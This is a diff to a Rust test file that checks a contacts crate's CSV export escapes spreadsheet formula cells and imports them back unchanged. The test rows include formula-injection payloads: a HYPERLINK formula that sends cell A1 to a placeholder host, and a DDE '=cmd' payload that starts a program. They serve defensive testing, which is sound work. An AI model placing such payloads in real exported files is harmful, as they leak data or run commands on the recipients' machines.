@@ -5,8 +5,8 @@ use campo_core::day::Day;
 use campo_core::interop::csv_import::parse_csv_with;
 use campo_core::interop::{
     Address, CalendarItem, CalendarKind, CalendarStart, CsvOptions, ItemStatus, Separator,
-    TextEncoding, Typed, VCard, parse_csv, read_calendar, read_vcards, write_calendar, write_csv,
-    write_vcards,
+    TextEncoding, Typed, VCard, apply_mapping, parse_csv, read_calendar, read_vcards,
+    suggest_mapping, write_calendar, write_csv, write_vcards,
 };
 use proptest::prelude::*;
 
@@ -50,9 +50,81 @@ fn csv_export_then_import_gives_the_same_table() {
     }
 }
 
+/// Accounts whose values a spreadsheet would run as formulas, and phones and
+/// amounts that start like one, go out escaped and come back through the importer
+/// (mapping included) as they were.
+#[test]
+fn formula_cells_are_escaped_and_round_trip_through_the_importer() {
+    let headers = ["Name", "Phone", "Mobile", "Notes", "Tags"];
+    let rows = vec![
+        vec![
+            "=HYPERLINK(\"http://x.example/?\"&A1,\"Apri\")",
+            "+39 02 1234 5678",
+            "+393331234567",
+            "-sconto 10% sempre",
+            "@vip",
+        ],
+        vec![
+            "Bar Roma",
+            "+39 (051) 123-456",
+            "0521/123456",
+            "'=già protetto",
+            "+1",
+        ],
+        vec!["=cmd|' /C calc'!A0", "", "", "+SUM(A1:A9)", ""],
+    ];
+    for options in [CsvOptions::STANDARD, CsvOptions::EXCEL_ITALY] {
+        let bytes = write_csv(&headers, &rows, options);
+        let text = String::from_utf8(bytes.clone()).unwrap();
+        // No line of the file starts a cell with a formula character, except the
+        // phones in Campo's stored format, which are left readable.
+        let sep = options.separator.as_char();
+        for line in text.trim_start_matches('\u{feff}').split("\r\n") {
+            for cell in line.split(sep) {
+                let cell = cell.trim_start_matches('"');
+                if cell.starts_with(['=', '@', '-', '\t']) {
+                    panic!("unescaped cell {cell:?} in {line:?}");
+                }
+                if cell.starts_with('+') {
+                    assert!(
+                        ["+39 02 1234 5678", "+393331234567", "+1"].contains(&cell),
+                        "{cell:?}"
+                    );
+                }
+            }
+        }
+        assert!(text.contains("'=HYPERLINK"));
+        assert!(text.contains("'=cmd|"));
+        assert!(text.contains("'+39 (051) 123-456"));
+        assert!(text.contains("''=già protetto"));
+
+        let table = parse_csv(&bytes).unwrap();
+        let read: Vec<Vec<String>> = table.rows.iter().map(|r| r.fields.clone()).collect();
+        assert_eq!(read, rows);
+
+        let mapping = suggest_mapping(&table.headers);
+        let imported: Vec<_> = apply_mapping(&table, &mapping)
+            .into_iter()
+            .map(|r| r.expect("every row imports"))
+            .collect();
+        assert_eq!(imported[0].account.name, rows[0][0]);
+        assert_eq!(imported[0].account.phone, "+39 02 1234 5678");
+        assert_eq!(imported[0].account.mobile, "+393331234567");
+        assert_eq!(imported[0].account.notes, "-sconto 10% sempre");
+        assert_eq!(imported[0].account.tags, ["@vip"]);
+        assert_eq!(imported[1].account.phone, "+39 (051) 123-456");
+        assert_eq!(imported[1].account.notes, "'=già protetto");
+        assert_eq!(imported[1].account.tags, ["+1"]);
+        assert_eq!(imported[2].account.name, "=cmd|' /C calc'!A0");
+        assert_eq!(imported[2].account.notes, "+SUM(A1:A9)");
+    }
+}
+
 fn field() -> impl Strategy<Value = String> {
     prop_oneof![
         "[a-zàè€ \"';,\t\r\n]{0,12}",
+        // Formula characters, phones and signed numbers, with the escape's own `'`.
+        "['=+@-]{0,3}[0-9 a(;.,]{0,8}",
         "\\PC{0,10}",
         Just(String::new()),
     ]
